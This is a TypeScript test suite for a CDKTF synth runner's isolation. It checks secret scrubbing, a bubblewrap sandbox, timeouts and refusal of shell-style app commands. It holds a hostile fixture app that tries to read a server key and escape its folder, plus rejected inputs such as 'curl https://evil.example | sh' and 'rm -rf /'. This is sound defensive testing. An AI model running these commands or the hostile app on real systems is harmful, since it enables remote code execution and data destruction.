import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, afterEach, describe, expect, it, vi } from 'vitest';
import { synthCdktfApp } from '../../../src/engines/cdktf/synth-app.ts';
import { detectSynthSandbox } from '../../../src/engines/cdktf/synth-sandbox.ts';
import { fixtureApp, handWrittenApp, makeTempDir, synthOptions, writeFiles } from './cdktf-test-helpers.ts';
import { isAlive } from '../process-alive.ts';

const temp = makeTempDir('cdktf-isolation');
afterAll(() => temp.remove());
afterEach(() => {
  vi.unstubAllEnvs();
});

const SECRETS = {
  GITHUB_TOKEN: 'ghs_secret_token_value',
  PRIVATE_KEY: '-----BEGIN RSA PRIVATE KEY-----',
  APP_PRIVATE_KEY_PATH: '/etc/sluice/app.pem',
  WEBHOOK_SECRET: 'hook-secret',
  AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
  AWS_SECRET_ACCESS_KEY: 'aws-secret',
  AWS_SESSION_TOKEN: 'aws-session',
};

async function probeEnv(extra: Parameters<typeof synthOptions>[2]): Promise<Record<string, string>> {
  const result = await synthCdktfApp(synthOptions(fixtureApp('env-probe'), join(temp.dir, `probe-${Math.random()}`), extra));
  if (!result.ok) throw new Error(result.message);
  const outputs = result.value.stacks[0]?.config['output'] as Record<string, { value: string }>;
  return Object.fromEntries(Object.entries(outputs).map(([name, o]) => [name, o.value]));
}

describe('the synth child environment', () => {
  it('holds none of the server\'s secrets, even when they are set in the parent', async () => {
    for (const [name, value] of Object.entries(SECRETS)) vi.stubEnv(name, value);
    const seen = await probeEnv({});
    expect(seen['leaked']).toBe('');
    const names = seen['env_names']!.split(',');
    for (const name of Object.keys(SECRETS)) expect(names).not.toContain(name);
    expect(names.filter((n) => n.startsWith('AWS_') || n.startsWith('GITHUB_'))).toEqual([]);
    expect(names).toEqual(expect.arrayContaining(['PATH', 'HOME', 'CDKTF_OUTDIR', 'CDKTF_CONTEXT_JSON']));
    expect(seen['home']).not.toBe(process.env['HOME']);
  });

  it('never passes secret-looking names, even when an operator allowlists them', async () => {
    const seen = await probeEnv({
      parentEnv: { ...SECRETS, PATH: process.env['PATH'], LANG: 'C.UTF-8', TEAM: 'data' },
      envAllowlist: [...Object.keys(SECRETS), 'LANG', 'TEAM'],
    });
    expect(seen['leaked']).toBe('');
    expect(seen['env_names']!.split(',')).toEqual(expect.arrayContaining(['LANG', 'TEAM']));
  });
});

/** Synthesizes env-probe from a separate "server" process whose real environment holds a marker secret. */
async function probeFromServer(mode: 'off' | 'bubblewrap'): Promise<Record<string, string>> {
  const script = join(import.meta.dirname, 'synth-as-server.ts');
  const args = [script, fixtureApp('env-probe'), join(temp.dir, `server-${Math.random()}`), mode];
  const { stdout } = await promisify(execFile)(process.execPath, args, { env: { ...process.env, SLUICE_PROBE_SECRET: 'from-the-server' } });
  const result = JSON.parse(stdout);
  if (!result.ok) throw new Error(result.message);
  const outputs = result.value.stacks[0].config.output as Record<string, { value: string }>;
  return Object.fromEntries(Object.entries(outputs).map(([name, o]) => [name, o.value]));
}

const SANDBOX = detectSynthSandbox('bubblewrap');
const OFF = detectSynthSandbox('off');

/**
 * A hostile app (no cdktf needed): it tries to read a server file, writes outside its folder, leaves a
 * detached (setsid) child running, and reports what worked in its stack's outputs.
 */
function hostileApp(options: { serverFile: string; cacheFile: string; marker: string; hang?: boolean }): Record<string, string> {
  const files = handWrittenApp('raw');
  return {
    ...files,
    'main.ts': `import { readFileSync as readF, writeFileSync as writeF } from 'node:fs';
import { spawn } from 'node:child_process';
const tried = (f: () => unknown): string => { try { f(); return 'yes'; } catch { return 'no'; } };
const report = {
  read_server_file: tried(() => readF(${JSON.stringify(options.serverFile)}, 'utf8')),
  wrote_checkout: tried(() => writeF('../OWNED.txt', 'owned')),
  wrote_cache: tried(() => writeF(${JSON.stringify(options.cacheFile)}, 'owned')),
  wrote_tmp: tried(() => writeF('/tmp/sluice-hostile-${options.marker}', 'owned')),
};
spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', ${JSON.stringify(options.marker)}], { detached: true, stdio: 'ignore' }).unref();
${options.hang === true ? 'setInterval(() => {}, 1000);' : ''}
` + files['main.ts']!.replace('{ resource:', "{ output: Object.fromEntries(Object.entries(report).map(([k, v]) => [k, { value: v }])), resource:"),
  };
}

/** Host processes whose command line holds the marker (a detached child that outlived its synth). */
function processesWith(marker: string): number {
  return readdirSync('/proc').filter((pid) => /^\d+$/.test(pid)).filter((pid) => {
    try {
      return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker);
    } catch {
      return false;
    }
  }).length;
}

describe('the synth sandbox (bubblewrap)', () => {
  it('is available on this machine (.ci/run installs bubblewrap)', () => {
    expect(SANDBOX).toMatchObject({ kind: 'bubblewrap' });
  });

  it("without it, PR code reads the server's environment from /proc: why the sandbox is the default", async () => {
    const seen = await probeFromServer('off');
    expect(seen['leaked']).toBe('');
    expect(Number(seen['proc_leaks'])).toBeGreaterThan(0);
  });

  it("in it, PR code cannot see the server's processes or their environment", async () => {
    const seen = await probeFromServer('bubblewrap');
    expect(seen['proc_leaks']).toBe('0');
    expect(seen['leaked']).toBe('');
  });

  it('a hostile app reads no server file, and its writes outside its output never reach the server', async () => {
    const root = join(temp.dir, 'hostile-root');
    const serverFile = join(temp.dir, 'server-secret.pem');
    writeFileSync(serverFile, 'the App private key');
    const cacheDir = join(temp.dir, 'hostile-cache');
    mkdirSync(cacheDir, { recursive: true });
    const marker = `sluice-marker-${Math.random().toString(36).slice(2)}`;
    writeFiles(join(root, 'infra'), hostileApp({ serverFile, cacheFile: join(cacheDir, 'poisoned.json'), marker }));
    const result = await synthCdktfApp(synthOptions(join(root, 'infra'), join(temp.dir, 'hostile-out'), { rootDir: root, sandbox: SANDBOX, cacheDir }));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const outputs = result.value.stacks[0]?.config['output'] as Record<string, { value: string }>;
    expect(outputs['read_server_file']?.value).toBe('no');
    expect(existsSync(join(root, 'OWNED.txt'))).toBe(false);
    expect(existsSync(join(cacheDir, 'poisoned.json'))).toBe(false);
    expect(existsSync(`/tmp/sluice-hostile-${marker}`)).toBe(false);
    await expect.poll(() => processesWith(marker), { timeout: 5_000 }).toBe(0);
    expect(result.value.sandboxed).toBe(true);
  });

  it('kills the whole tree at the timeout, detached (setsid) children included', async () => {
    const dir = join(temp.dir, 'hostile-hang');
    const marker = `sluice-marker-${Math.random().toString(36).slice(2)}`;
    writeFiles(dir, hostileApp({ serverFile: '/etc/hostname', cacheFile: '/tmp/x', marker, hang: true }));
    const result = await synthCdktfApp(synthOptions(dir, join(temp.dir, 'hang-out'), { timeoutMs: 3_000, sandbox: SANDBOX }));
    expect(result).toMatchObject({ ok: false, code: 'engine_failed', message: expect.stringMatching(/^the app did not finish within 3 s/) });
    await expect.poll(() => processesWith(marker), { timeout: 5_000 }).toBe(0);
  });

  it('without the sandbox, a detached child outlives the process group (why the PID namespace matters)', async () => {
    const dir = join(temp.dir, 'hostile-hang-off');
    const marker = `sluice-marker-${Math.random().toString(36).slice(2)}`;
    writeFiles(dir, hostileApp({ serverFile: '/etc/hostname', cacheFile: '/tmp/x', marker, hang: true }));
    await synthCdktfApp(synthOptions(dir, join(temp.dir, 'hang-off-out'), { timeoutMs: 2_000, sandbox: OFF }));
    expect(processesWith(marker)).toBe(1);
    for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      try {
        if (readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker)) process.kill(Number(pid), 'SIGKILL');
      } catch {
        // gone
      }
    }
  });
});

describe('limits on the synth child', () => {
  it('kills a hanging app and its grandchildren at the timeout', async () => {
    const started = performance.now();
    const result = await synthCdktfApp(synthOptions(fixtureApp('hangs'), join(temp.dir, 'hangs'), { timeoutMs: 3_000, sandbox: OFF }));
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.code).toBe('engine_failed');
    expect(result.message).toMatch(/^the app did not finish within 3 s; it was stopped/);
    const pid = Number(/grandchild (\d+)/.exec(result.message)?.[1]);
    expect(pid).toBeGreaterThan(0);
    await expect.poll(() => isAlive(pid), { timeout: 5_000 }).toBe(false);
  });

  it('stops an app that floods its output at the cap', async () => {
    const result = await synthCdktfApp(synthOptions(fixtureApp('noisy'), join(temp.dir, 'noisy'), { outputCapBytes: 64 * 1024 }));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.message).toMatch(/^the app wrote more than 65536 bytes of output; it was stopped/);
    expect(result.message.length).toBeLessThan(6_000);
  });

  it('stops the app when the run is cancelled', async () => {
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 300);
    const result = await synthCdktfApp(synthOptions(fixtureApp('hangs'), join(temp.dir, 'cancelled'), { signal: controller.signal }));
    expect(result).toMatchObject({ ok: false, code: 'cancelled' });
  });
});

describe('the app command', () => {
  it.each([
    'node main.ts; curl https://evil.example | sh',
    'node main.ts && rm -rf /',
    'node $(whoami).ts',
    'node `id`.ts',
    'node main.ts > /tmp/x',
    'AWS_PROFILE=prod node main.ts',
  ])('refuses %j without running anything', async (app) => {
    const dir = join(temp.dir, `meta-${Math.random()}`);
    writeFiles(dir, { ...handWrittenApp('x'), 'cdktf.json': JSON.stringify({ app }) });
    const result = await synthCdktfApp(synthOptions(dir, join(dir, '..', `${Math.random()}-out`)));
    expect(result).toMatchObject({ ok: false, code: 'config_invalid', location: { file: 'cdktf.json' } });
    if (!result.ok) expect(result.message).toMatch(/without a shell/);
  });

  it('runs `npx <bin>` from the app\'s own node_modules/.bin, with quoted arguments kept whole', async () => {
    const dir = join(temp.dir, 'npx-app');
    writeFiles(dir, {
      ...handWrittenApp('from-npx'),
      'cdktf.json': JSON.stringify({ app: 'npx synth-it "main file.ts"' }),
      'main file.ts': handWrittenApp('from-npx')['main.ts']!,
      'node_modules/.bin/synth-it': `#!/usr/bin/env node\nimport('./../../' + process.argv[2]);\n`,
    });
    const result = await synthCdktfApp(synthOptions(dir, join(temp.dir, 'npx-out')));
    expect(result.ok ? result.value.stacks[0]?.config : result).toEqual({ resource: { aws_s3_bucket: { raw: { bucket: 'from-npx' } } } });
  });

  it('does not download a package `npx` cannot find locally', async () => {
    const dir = join(temp.dir, 'npx-missing');
    writeFiles(dir, { ...handWrittenApp('x'), 'cdktf.json': JSON.stringify({ app: 'npx tsx main.ts' }) });
    const result = await synthCdktfApp(synthOptions(dir, join(temp.dir, 'npx-missing-out')));
    expect(result).toMatchObject({ ok: false, code: 'engine_failed' });
    if (!result.ok) expect(result.message).toMatch(/tsx is not installed in node_modules\/\.bin/);
  });

  it('locates an invalid cdktf.json', async () => {
    const dir = join(temp.dir, 'bad-json');
    writeFiles(dir, { 'cdktf.json': '{\n  "language": "typescript",\n  "app": 42\n}\n' });
    const result = await synthCdktfApp(synthOptions(dir, join(temp.dir, 'bad-json-out')));
    expect(result).toMatchObject({ ok: false, code: 'config_invalid', location: { file: 'cdktf.json', line: 3 } });
  });
});

